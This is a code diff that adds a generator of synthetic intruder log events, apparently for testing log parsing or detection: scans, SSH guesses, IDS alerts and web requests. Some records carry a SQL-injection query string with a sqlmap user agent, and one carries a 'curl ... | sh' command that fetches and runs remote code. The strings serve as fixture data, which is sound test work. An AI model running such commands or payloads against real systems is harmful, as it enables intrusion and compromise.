@@ -117,6 +117,54 @@ export const failedLogin: LineMaker = (source, draw) => ({
   after: ` gate-0 sshd[${1000 + draw.below(60_000)}]: Failed password for ${draw.below(2) ? 'invalid user ' : ''}${pick(draw, USERS)} from ${addressOf(source)} port ${1024 + draw.below(64_000)} ssh2`,
 })
 
+/** An intruder who scans, guesses, attacks the web server and runs commands: more kinds of event than a sample tells apart. */
+export const intruder: LineMaker = (source, draw) => {
+  const path = `/wp-content/plugins/p${draw.below(90)}/readme.txt?id=${draw.below(90_000)}%27%20OR%201%3D1`
+  const web = (status: number) => ({
+    event_type: 'http.request',
+    service: 'http',
+    dst_port: 80,
+    http: { method: 'GET', host: 'shop.example', path, status, user_agent: 'sqlmap/1.8' },
+  })
+  const seen = (tcp_state: string) => ({
+    event_type: 'flow',
+    dst_port: 1 + draw.below(9_000),
+    tcp_state,
+    bytes_out: 60,
+    pkts_out: 1,
+    pkts_in: 0,
+  })
+  const guess = { service: 'ssh', dst_port: 22, username: pick(draw, USERS), password: `p${draw.below(9_000)}` }
+  const event = pick(draw, [
+    web(200),
+    web(302),
+    web(404),
+    web(500),
+    seen('S0'),
+    seen('REJ'),
+    seen('RSTO'),
+    seen('SF'),
+    { event_type: 'ssh.login.failed', ...guess },
+    { event_type: 'ssh.login.success', ...guess },
+    { event_type: 'command', service: 'ssh', command: `curl http://203.0.113.9/x${draw.below(900)} | sh` },
+    { event_type: 'alert', alert: { signature: `ET SCAN ${draw.below(50)}`, category: 'scan', severity: 2 } },
+    {
+      event_type: 'dns.query',
+      service: 'dns',
+      dst_port: 53,
+      dns: { query: `h${draw.below(9_000)}.example`, qtype: 'A' },
+    },
+  ])
+  const rest = JSON.stringify({
+    src_ip: addressOf(source),
+    src_port: 1024 + draw.below(64_000),
+    dst_ip: `198.51.100.${1 + draw.below(20)}`,
+    proto: 'tcp',
+    ...event,
+  })
+  return { before: '{"ts":"', after: `",${rest.slice(1)}` }
+}
+
 /** RFC 3339 with milliseconds and offset: JSON and rsyslog both take it. */
 const stamp = (ms: number): string => new Date(ms).toISOString().replace('Z', '+00:00')
 
